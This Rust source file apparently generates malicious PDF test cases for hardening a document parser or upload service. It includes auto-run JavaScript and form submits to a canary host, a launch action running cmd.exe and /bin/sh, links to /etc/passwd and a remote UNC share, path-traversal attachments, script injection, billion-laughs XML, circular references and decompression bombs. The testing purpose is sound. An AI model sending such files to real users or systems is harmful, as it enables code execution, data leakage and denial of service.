//! Documents that want to run something, or that never end.

use crate::packed::{zlib, zlib_of, zlib_of_zeros};
use crate::paper::{body, objects, one_page, stream, written};
use crate::{CANARY_HOST, Case, canary};

pub(crate) fn cases() -> Vec<Case> {
    let all = [acts(), circles(), sizes(), bombs(), insides()].concat();
    all.into_iter().map(|(name, bytes)| Case::new(name, "sheet.pdf", "application/pdf", bytes)).collect()
}

type Named = Vec<(&'static str, Vec<u8>)>;

/// What a viewer is asked to do.
fn acts() -> Named {
    let js = format!("app.alert('canary');this.submitForm('https://{CANARY_HOST}/ran');{}", canary())
        .replace(['(', ')'], "");
    let script = format!("<< /S /JavaScript /JS ({js}) >>");
    let of_catalogue = |entries: &str| one_page(entries, "", b"", &[]);
    let of_page = |entries: &str| one_page("", entries, b"", &[]);
    let linked = |act: &str| {
        of_page(&format!("/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A {act} >>]"))
    };
    let embedded = |name: &str| {
        let file = format!(
            "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 5 0 R >> >>] >> >>"
        );
        one_page(&file, "", b"", &[stream("/Type /EmbeddedFile", b"MZ\x90\0")])
    };
    let form = "/AcroForm << /XFA 5 0 R /Fields [] >>";
    let xfa = format!(
        "<xdp><template><field><event activity='ready'><script contentType='application/x-javascript'>{js}</script></event></field></template></xdp>"
    );
    vec![
        ("a script when it is opened", of_catalogue(&format!("/OpenAction {script}"))),
        ("a script by name", of_catalogue(&format!("/Names << /JavaScript << /Names [(a) {script}] >> >>"))),
        ("a script when it is closed, printed and saved", of_catalogue(&format!("/AA << /WC {script} /DP {script} /WS {script} >>"))),
        ("a script of a page", of_page(&format!("/AA << /O {script} /C {script} >>"))),
        ("a script of a link", linked(&script)),
        ("an address that is a script", linked(&format!("<< /S /URI /URI (javascript:{js}) >>"))),
        ("an address of this machine", linked("<< /S /URI /URI (file:///etc/passwd) >>")),
        ("a form that is sent when it is opened", of_catalogue(&format!("/OpenAction << /S /SubmitForm /F (https://{CANARY_HOST}/ran) >>"))),
        ("a program that is started", of_catalogue("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/C calc) >> /F (/bin/sh) >>")),
        ("a document of another machine", of_catalogue(&format!("/OpenAction << /S /GoToR /F (\\\\\\\\{CANARY_HOST}\\\\x.pdf) /D [0 /Fit] >>"))),
        ("a document within that is opened", of_catalogue("/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (a) >> >>")),
        ("a program within", embedded("setup.exe")),
        ("a file within above its folder", embedded("../../../../tmp/outside")),
        ("a form with a script of its own kind", one_page(form, "", b"", &[stream("", xfa.as_bytes())])),
        ("a film with a script", of_page("/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(x.swf) << /F (x.swf) >>] >> >> >>]")),
        ("a picture of another machine", one_page("", "/Resources << /XObject << /A 5 0 R >> >>", b"/A Do", &[stream(&format!("/Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F (https://{CANARY_HOST}/ran) >>"), b"")])),
        ("facts with a billion laughs", one_page("/Metadata 5 0 R", "", b"", &[stream("/Type /Metadata /Subtype /XML", b"<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><x>&b;</x>")])),
        ("a title with markup", one_page("", "", b"", &[b"<< /Title (<script>alert\\('canary'\\)</script>) >>".to_vec()])),
        ("words with markup", one_page("", "/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>", b"BT /F 9 Tf 9 9 Td (</p><script>alert\\('canary'\\)</script><img src=x onerror=alert\\(1\\)>) Tj ET", &[])),
    ]
}

/// What refers to itself.
fn circles() -> Named {
    let tree = |kids: &str| {
        written(&[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            format!("<< /Type /Pages /Kids [{kids}] /Count 2 >>").into_bytes(),
        ])
    };
    let mut doubling = vec![b"<< /Type /Catalog /Pages 2 0 R >>".to_vec()];
    doubling
        .extend((3..43).map(|child| {
            format!("<< /Type /Pages /Kids [{child} 0 R {child} 0 R] /Count 2 >>").into_bytes()
        }));
    doubling.push(b"<< /Type /Page /MediaBox [0 0 9 9] >>".to_vec());
    let of_page = |entries: &str, further: &[Vec<u8>]| one_page("", entries, b"/F Do /P gs", further);
    let form = |resources: &str, content: &[u8]| {
        stream(
            &format!("/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << {resources} >>"),
            content,
        )
    };
    let (mut previous, offsets) = body(&objects("", "", b"", &[]));
    let table = previous.len();
    previous.extend(format!("xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 9 /Root 1 0 R /Prev {table} >>\nstartxref\n{table}\n%%EOF\n").bytes());
    let (mut streamed, _) = body(&objects("", "", b"", &[]));
    let place = streamed.len();
    streamed.extend(format!("9 0 obj\n<< /Type /XRef /Size 10 /W [1 2 1] /Root 1 0 R /Prev {place} /Length 0 >>\nstream\n\nendstream\nendobj\nstartxref\n{place}\n%%EOF\n").bytes());
    let mut shifted = previous.clone();
    shifted.extend(format!("startxref\n{}\n%%EOF\n", offsets.first().copied().unwrap_or_default()).bytes());
    vec![
        ("a reference to itself", written(&[b"1 0 R".to_vec()])),
        ("a catalogue that is its own pages", written(&[b"<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] /Count 1 >>".to_vec()])),
        ("pages that contain themselves", tree("2 0 R 2 0 R")),
        ("pages that double at every level", written(&doubling)),
        ("a page that is its own parent", written(&[b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(), b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(), b"<< /Type /Page /Parent 3 0 R >>".to_vec()])),
        ("a length that is the stream itself", of_page("", &[b"<< /Length 5 0 R >>\nstream\nx\nendstream".to_vec()])),
        ("a table of itself", previous),
        ("a table in a stream of itself", streamed),
        ("a table where an object is", shifted),
        ("objects in a stream of themselves", of_page("/Extra 5 0 R", &[stream("/Type /ObjStm /N 1 /First 4 /Extends 5 0 R", b"5 0 (x)")])),
        ("a form that draws itself", of_page("/Resources << /XObject << /F 5 0 R >> >>", &[form("/XObject << /F 5 0 R >>", b"/F Do /F Do")])),
        ("forms that draw ten billion forms", ten_billion("q Q")),
        ("forms that draw ten billion boxes", ten_billion("0 0 90 90 re f")),
        ("a mask of itself", of_page("/Resources << /ExtGState << /P 6 0 R >> /XObject << /F 5 0 R >> >>", &[form("/ExtGState << /P 6 0 R >>", b"/P gs 0 0 9 9 re f"), b"<< /SMask << /S /Luminosity /G 5 0 R >> >>".to_vec()])),
        ("a pattern of itself", one_page("", "/Resources << /Pattern << /P 5 0 R >> >>", b"/Pattern cs /P scn 0 0 200 200 re f", &[stream("/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << /Pattern << /P 5 0 R >> >>", b"/Pattern cs /P scn 0 0 1 1 re f")])),
        ("a letter that writes itself", one_page("", "/Resources << /Font << /F 5 0 R >> >>", b"BT /F 9 Tf (aaa) Tj ET", &[
            b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] /Resources << /Font << /F 5 0 R >> >> >>".to_vec(),
            stream("", b"BT /F 1 Tf (aaaa) Tj ET"),
        ])),
        ("an outline in a circle", one_page("/Outlines 5 0 R", "", b"", &[b"<< /First 6 0 R /Last 6 0 R >>".to_vec(), b"<< /Title (a) /Next 6 0 R /Parent 5 0 R >>".to_vec()])),
    ]
}

fn ten_billion(content: &str) -> Vec<u8> {
    let forms: Vec<Vec<u8>> = (0..10)
        .map(|level| {
            let (next, content) = if level == 9 { (5, content.to_owned()) } else { (6 + level, "/F Do ".repeat(10)) };
            stream(&format!("/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /F {next} 0 R >> >>"), content.as_bytes())
        })
        .collect();
    one_page("", "/Resources << /XObject << /F 5 0 R >> >>", b"/F Do", &forms)
}

/// What is too large, too small, or too much.
fn sizes() -> Named {
    let media = |sides: &str| one_page("", &format!("/MediaBox [{sides}]"), b"0 0 9 9 re f", &[]);
    let count = |count: &str| {
        written(&[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            format!("<< /Type /Pages /Kids [3 0 R] /Count {count} >>").into_bytes(),
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>".to_vec(),
        ])
    };
    let mut pages = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        format!("<< /Type /Pages /Count 20000 /Kids [{}] >>", "3 0 R ".repeat(20_000)).into_bytes(),
    ];
    pages.push(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 90 90] >>".to_vec());
    let depth = 100_000;
    let nested = ["[".repeat(depth), "]".repeat(depth)].concat();
    let books = ["<< /A ".repeat(depth), ">>".repeat(depth)].concat();
    let (mut table, _) = body(&objects("", "", b"", &[]));
    let at = table.len();
    table.extend(format!("xref\n0 2147483647\n0000000000 65535 f \ntrailer\n<< /Size 2147483647 /Root 1 0 R >>\nstartxref\n{at}\n%%EOF\n").bytes());
    vec![
        ("a page as large as a town", media("0 0 99999999 99999999")),
        ("a page beyond numbers", media("-1e38 -1e38 1e38 1e38")),
        ("a page of nothing", media("0 0 0 0")),
        ("a page the other way round", media("200 200 -200 -200")),
        ("a page of no numbers", media("/a (b) null true")),
        ("a page in units of a mile", one_page("", "/UserUnit 75000", b"", &[])),
        ("two milliards of pages, one of them there", count("2147483647")),
        ("less than no pages", count("-5")),
        ("twenty thousand pages", written(&pages)),
        ("a table of two milliards", table),
        ("brackets without end", one_page("", &format!("/Extra {nested}"), nested.as_bytes(), &[])),
        (
            "books without end",
            one_page("", &format!("/Resources << /ExtGState {books} >>"), books.as_bytes(), &[]),
        ),
        ("a name of a million letters", one_page("", &format!("/{} 1", "n".repeat(1 << 20)), b"", &[])),
        ("a number of a million digits", one_page("", &format!("/Extra {}", "9".repeat(1 << 20)), b"", &[])),
        ("states without end", one_page("", "", &b"q ".repeat(500_000), &[])),
        (
            "a line without end",
            one_page(
                "",
                "",
                &[b"0 0 m ".as_slice(), &b"200 200 l 0 0 l ".repeat(200_000), b"S"].concat(),
                &[],
            ),
        ),
        ("a million dashes", one_page("", "", b"[0.0001] 0 d 0 0 m 200 200 l S", &[])),
    ]
}

/// What unfolds.
fn bombs() -> Named {
    let content = |filters: &str, bytes: &[u8]| {
        let mut all = objects("", "", b"", &[]);
        all[3] = stream(filters, bytes);
        written(&all)
    };
    let twice = zlib(&zlib_of(b' ', 300 << 20));
    let pages: Vec<String> = (0..12).map(|page| format!("{} 0 R", page + 4)).collect();
    let mut heavy = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        format!("<< /Type /Pages /Count 12 /Kids [{}] >>", pages.join(" ")).into_bytes(),
    ];
    heavy.push(stream("/Filter [/FlateDecode /FlateDecode]", &zlib(&zlib_of(b' ', 150 << 20))));
    heavy.extend((0..12).map(|page| {
        let contents = if page == 0 { "" } else { "/Contents 3 0 R" };
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 90 90] {contents} >>").into_bytes()
    }));
    let mut slow = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        format!("<< /Type /Pages /Count 12 /Kids [{}] >>", pages.join(" ")).into_bytes(),
    ];
    slow.push(stream("/Filter /FlateDecode", &zlib(&b"q 1 0 0 1 0 0 cm BT ET Q ".repeat(100_000))));
    slow.extend((0..12).map(|page| {
        let contents = if page == 0 { String::new() } else { format!("/Contents [{}]", "3 0 R ".repeat(12)) };
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 90 90] {contents} >>").into_bytes()
    }));
    let picture = |entries: &str, bytes: &[u8]| {
        one_page(
            "",
            "/Resources << /XObject << /A 5 0 R >> >>",
            b"200 0 0 200 0 0 cm /A Do",
            &[stream(&format!("/Type /XObject /Subtype /Image {entries}"), bytes)],
        )
    };
    let run = [129_u8, b' '].repeat(100_000);
    vec![
        ("what it draws unfolds twice", content("/Filter [/FlateDecode /FlateDecode]", &twice)),
        ("eleven pages that unfold behind a sound one", written(&heavy)),
        ("eleven pages that are slow behind a sound one", written(&slow)),
        ("a thousand filters", content(&format!("/Filter [{}]", "/ASCIIHexDecode ".repeat(1000)), b"20>")),
        ("runs in runs", content("/Filter [/FlateDecode /RunLengthDecode]", &zlib(&run))),
        (
            "a filter that looks ahead a milliard",
            content(
                "/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>",
                &zlib(b"x"),
            ),
        ),
        (
            "a picture of 65,535 squared",
            picture(
                "/Width 65535 /Height 65535 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode",
                &zlib_of_zeros(1 << 20),
            ),
        ),
        (
            "a picture of a hundred million dots",
            picture(
                "/Width 10000 /Height 10000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode",
                &zlib_of_zeros(12_500_000),
            ),
        ),
        (
            "a mask of two milliards of rows",
            picture("/ImageMask true /Width 1 /Height 2147483647 /BitsPerComponent 1", b"x"),
        ),
        (
            "a fax of a million rows",
            picture(
                "/Width 60000 /Height 1000000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 1000000 >>",
                &[0xff; 2000],
            ),
        ),
        (
            "a broken JPEG 2000",
            picture(
                "/Width 9 /Height 9 /Filter /JPXDecode",
                b"\0\0\0\x0cjP  \r\n\x87\n\xff\x4f\xff\x51\0\x2f\0\0\x7f\xff\xff\xff\x7f\xff\xff\xff",
            ),
        ),
        (
            "a broken JBIG2",
            picture(
                "/Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode",
                b"\0\0\0\0\x30\0\x01\0\0\0\x13\xff\xff\xff\xff\xff\xff\xff\xff\0\0\0\0\0\0\0\0\0\0\0",
            ),
        ),
    ]
}

/// What is wrong inside: fonts, functions, colours, locks.
fn insides() -> Named {
    let font = |kind: &str, file: &str, bytes: &[u8]| {
        one_page("", "/Resources << /Font << /F 5 0 R >> >>", b"BT /F 40 Tf 9 90 Td (Hello) Tj ET", &[
            format!("<< /Type /Font /Subtype /{kind} /BaseFont /X /FontDescriptor 6 0 R /FirstChar 0 /LastChar 255 >>").into_bytes(),
            format!("<< /Type /FontDescriptor /FontName /X /Flags 4 /{file} 7 0 R >>").into_bytes(),
            stream("", bytes),
        ])
    };
    let letters = "1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange 1 beginbfrange <00000000> <FFFFFFFF> <0020> endbfrange 1 begincidrange <00000000> <FFFFFFFF> 0 endcidrange";
    let function = |entries: &str, code: &[u8]| {
        one_page(
            "",
            "/Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function 5 0 R >> >> >>",
            b"200 0 0 200 0 0 cm /S sh",
            &[stream(entries, code)],
        )
    };
    let code = format!("{{ {} 0 0 0 }}", "dup mul ".repeat(50_000));
    let (mut locked, _) = body(&objects("", "", b"", &[]));
    locked.extend(
        b"trailer\n<< /Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -1 >> >>\n%%EOF\n",
    );
    vec![
        ("a font of noise", font("TrueType", "FontFile2", &(0..4000_u32).map(|n| (n * n) as u8).collect::<Vec<_>>())),
        ("a font with tables beyond its end", font("TrueType", "FontFile2", b"\0\x01\0\0\xff\xff\0\0\0\0\0\0glyf\0\0\0\0\xff\xff\xff\xff\xff\xff\xff\xffcmap\0\0\0\0\0\0\0\x0c\xff\xff\xff\xff")),
        ("a font of programs in a circle", font("Type1", "FontFile", b"%!PS-AdobeFont-1.0: X\n/CharStrings 1 dict dup begin /a { a a a } def end\n{ loop } loop eexec")),
        ("a compact font that is cut", font("Type1", "FontFile3", b"\x01\0\x04\x04\0\x01\x01\x01\xff\xff\xff")),
        ("letters that stand for four milliards", one_page("", "/Resources << /Font << /F 5 0 R >> >>", b"BT /F 9 Tf (aaaa) Tj ET", &[b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 6 0 R /ToUnicode 6 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X >>] >>".to_vec(), stream("/UseCMap 6 0 R", letters.as_bytes())])),
        ("a function of a hundred thousand steps", function("/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]", code.as_bytes())),
        ("a function of too many inputs", function("/FunctionType 0 /Domain [0 1 0 1] /Range [0 1] /Size [65535 65535] /BitsPerSample 32", b"x")),
        ("colours of colours", one_page("", "/Resources << /ColorSpace << /C 5 0 R >> >>", b"/C cs 1 sc 0 0 9 9 re f", &[b"[/Indexed 5 0 R 2147483647 5 0 R]".to_vec()])),
        ("a shade of a million corners", one_page("", "/Resources << /Shading << /S 5 0 R >> >>", b"/S sh", &[stream("/ShadingType 4 /ColorSpace /DeviceRGB /BitsPerCoordinate 8 /BitsPerComponent 8 /BitsPerFlag 8 /Decode [0 200 0 200 0 1 0 1 0 1] /Filter /FlateDecode", &zlib(&[0, 9, 99, 1, 2, 3].repeat(300_000)))])),
        ("a lock", locked),
        ("operators without what they need", one_page("", "", b"re l c Tj Do gs sc W n BI ID EI cm d0 d1 sh 1e999 w -1 w Q Q Q Q ET", &[])),
        ("a picture within that does not end", one_page("", "", b"BI /W 60000 /H 60000 /BPC 8 /CS /RGB /F /Fl ID xxxx", &[])),
        ("noise behind a head", [b"%PDF-1.7\n".as_slice(), &(0..60_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect::<Vec<_>>(), b"\n%%EOF\n"].concat()),
    ]
}
